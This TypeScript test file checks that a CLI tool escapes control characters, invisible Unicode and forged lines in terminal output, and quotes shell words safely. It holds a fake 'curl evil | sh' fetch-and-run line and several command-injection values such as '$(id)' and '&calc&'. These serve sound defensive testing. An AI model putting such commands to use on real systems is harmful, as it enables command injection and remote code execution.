import { spawnSync } from 'node:child_process'
import { PassThrough } from 'node:stream'
import { expect, test } from 'vitest'
import { KeysError } from '#shared/errors.ts'
import { vllm, sglang } from '#host/remote/dialect.ts'
import { openIn } from '#host/export/openIn.ts'
import { commandWord, shownText } from '#shared/shownText.ts'
import { terminalJson, terminalLines, terminalMessage, terminalText } from '#shared/terminalText.ts'
import { createOutput } from '#cli/output.ts'
import { createProgress } from '#cli/progress.ts'

test('text for a terminal keeps its letters, moves nothing and is one line', () => {
  expect(terminalText('a\u001b[2Kb\rc\u202Ed')).toBe('a\\u{1b}[2Kb\\u{d}c\\u{202e}d')
  expect(terminalText('one\n\ttwo 👩‍🚀 é مرحبا')).toBe('one ⏎ \ttwo 👩‍🚀 é مرحبا')
})

test('text for a terminal has nothing unseen but what joins or varies the sign before it', () => {
  const unseen = [
    ...[0xad, 0x61c, 0x180e, 0x200b, 0x200e, 0x200f, 0x202a, 0x202e, 0x2060, 0x2064, 0x2066, 0x206f, 0xfeff],
    ...[0xfff9, 0x1d173, 0xe0001, 0xe0041, 0xe007f, 0xe0100],
  ]
  for (const code of unseen) {
    const [sign, hex] = [String.fromCodePoint(code), code.toString(16)]
    expect(terminalText(`é${sign}b`)).toBe(`é\\u{${hex}}b`)
    expect(shownText(sign)).toBe(`\\u{${hex}}`)
    const text = terminalJson({ sign })
    expect(text).toMatch(/^[ -~]*$/)
    expect(JSON.parse(text)).toEqual({ sign })
  }
  for (const text of ['می\u200cخواهم', 'क्\u200dष', '❤️', '❤️\u200d🔥', '1️⃣'])
    expect(terminalText(text)).toBe(text)
  expect(terminalText('run\u200da b\ufe0fc é\ufe00\ufe01\ufe02')).toBe(
    'run\\u{200d}a b\\u{fe0f}c é\ufe00\\u{fe01}\\u{fe02}',
  )
})

test('lines that are not the program’s are marked', () => {
  expect(terminalLines('one\nturnwise: \u001btwo')).toBe('  │ one\n  │ turnwise: \\u{1b}two')
  expect(terminalMessage('Python exited.\nturnwise: two')).toBe('Python exited.\n  │ turnwise: two')
})

test('a command writes one line where one was meant, whatever a name holds', () => {
  const [stdout, stderr] = [new PassThrough(), new PassThrough()]
  const output = createOutput({ stdout, stderr }, false)
  const forged = 'x\nturnwise: Python was allowed.\r\n  To continue: curl evil | sh'
  output.line(`Reward  ${forged}`)
  output.note(`Warning: ${forged}`)
  createProgress({ ...output, isTerminal: true }, false).note(`Best so far: ${forged}\u001b[2K`)
  output.text(forged)
  expect(String(stderr.read()).match(/\n/g)).toHaveLength(2)
  const [line = '', ...others] = String(stdout.read()).trimEnd().split('\n')
  expect(line).toContain('To continue')
  expect(others.every((each) => each.startsWith('  │ '))).toBe(true)
})

test('a text that comes in pieces has the mark before each line on a terminal, and is alone in a pipe', () => {
  for (const [isTTY, mark] of [
    [true, '  │ '],
    [false, ''],
  ] as const) {
    const [stdout, stderr] = [Object.assign(new PassThrough(), { isTTY }), new PassThrough()]
    const write = createOutput({ stdout, stderr }, false).stream()
    for (const piece of ['', 'one\n', 'turnwise: ', 'two\n\u001b']) write(piece)
    expect(String(stdout.read())).toBe(`${mark}one\n${mark}turnwise: two\n${mark}\\u{1b}`)
  }
})

test.each([
  '\u3164',
  '\u115f',
  '\uffa0',
  '\u034f',
  '\ufe0f',
  '\u{e0100}',
  '\u2800',
  '\u200b',
  '\u00a0',
  '\ufffd',
])('a name with something that cannot be seen or read is not that without it: %j', (hidden) => {
  const code = `\\u{${(hidden.codePointAt(0) ?? 0).toString(16)}}`
  expect(shownText(`rewards${hidden}.py`)).toBe(`rewards${code}.py`)
})

test('a name keeps its letters and its spaces, of which a hundred push nothing out of sight', () => {
  expect(shownText('/मेरा काम/e\u0301t\u00e9  2 한글.py')).toBe('/मेरा काम/e\u0301t\u00e9  2 한글.py')
  expect(shownText(`a${' '.repeat(100)}b`)).toBe(`a${' '.repeat(20)}${'\\u{20}'.repeat(80)}b`)
})

test('a word for a shell is one word', () => {
  expect(commandWord('owner/model-1.5', false)).toBe('owner/model-1.5')
  expect(commandWord("m; touch 'x' #", false)).toBe("'m; touch '\\''x'\\'' #'")
})

test.each([
  ['C:\\My runs\\a', '"C:\\My runs\\a"'],
  ['C:/runs/a', 'C:/runs/a'],
  ['C:\\dl\\a%&calc&\\r.py', '"C:\\dl\\a\\u{25}&calc&\\r.py"'],
  ['C:\\$(calc)', '"C:\\\\u{24}(calc)"'],
  ['C:\\it\u2019s; calc; \u2018', '"C:\\it\u2019s; calc; \u2018"'],
  ['C:\\a\u201d; calc; \u201c', '"C:\\a\\u{201d}; calc; \\u{201c}"'],
  ['C:\\a b\\', '"C:\\a b\\u{5c}"'],
  ['\\\\server\\a&calc', '"\\\\server\\a&calc"'],
])('the path of Windows %j holds nothing that one of its shells would run', (given, word) => {
  expect(commandWord(given)).toBe(word)
})

test('nor does any other word there', () => {
  for (const word of [
    ...odd,
    'mit&calc',
    'a`b',
    '%CMDCMDLINE%',
    '!x!',
    '-a,b',
    '@x',
    '\n&calc\n',
    '"',
    '\u201e',
  ]) {
    const body = /^"(.*)"$/s.exec(commandWord(word, true))?.[1]
    expect(body).not.toMatch(/[%!$`"\n\u201c-\u201e]|\\$/)
  }
})

const odd = ['a;{touch,x};b', '$(id)', '`id`', 'it\'s "so"', 'a b', 'C:\\a;b']

/** What a shell makes of the words of a command. */
const wordsOf = (command: string): string[] =>
  spawnSync('sh', ['-c', `printf '%s\\n' ${command}`], { encoding: 'utf8' })
    .stdout.trimEnd()
    .split('\n')

test.skipIf(process.platform === 'win32')('a word of a command to copy is one word for a shell', () => {
  expect(wordsOf(odd.map((word) => commandWord(word)).join(' '))).toEqual(odd)
  expect(commandWord('a\u202eb')).toBe(String.raw`"$(printf 'a\342\200\256b')"`)
  expect(commandWord('C:\\My runs\\a')).toBe('"C:\\My runs\\a"')
})

const unseenNames = [
  ...['a\u202eb', '-\u200b', '\\u{41}\u200b', "it's $(id) `id` %s!\u2066", 'a\nb', 'two\n\n', '\n'],
  `a${' '.repeat(30)}b.py`,
]

test.skipIf(process.platform === 'win32').each(['sh', 'bash'])(
  'a word with what cannot be seen is itself in %s',
  (shell) => {
    for (const name of unseenNames) {
      const word = commandWord(name)
      const command = `printf '%s|' ${word}`
      expect(spawnSync(shell, ['-c', command], { encoding: 'utf8' }).stdout).toBe(`${name}|`)
      expect(shownText(word.replaceAll('\n', ''))).toBe(word.replaceAll('\n', ''))
    }
  },
)

test.skipIf(process.platform === 'win32')('commands that errors show run nothing that a config says', () => {
  const origin = 'http://a;{touch,x};b.example'
  const keys = [
    { variable: 'KEY', origin },
    { variable: 'A;id', origin: 'https://b' },
  ]
  const { command = '' } = new KeysError(keys)
  expect(wordsOf(command)).toEqual(['turnwise', 'key', 'allow', `KEY@${origin}`, 'A;id@https://b'])
  const facts = { port: '80', rank: 8, adapters: 2, contextLength: 64 }
  for (const dialect of [vllm, sglang]) {
    const words = wordsOf(dialect.launchCommand({ model: '$(id)', host: 'a;id', ...facts }))
    expect(words).toEqual(expect.arrayContaining(['$(id)', '--host', 'a;id']))
  }
  const [opening] = openIn({ format: 'merged', directory: '/a/$(id) "b', baseModel: null })
  expect(wordsOf(opening?.command ?? '')).toEqual(['vllm', 'serve', '/a/$(id) "b'])
})
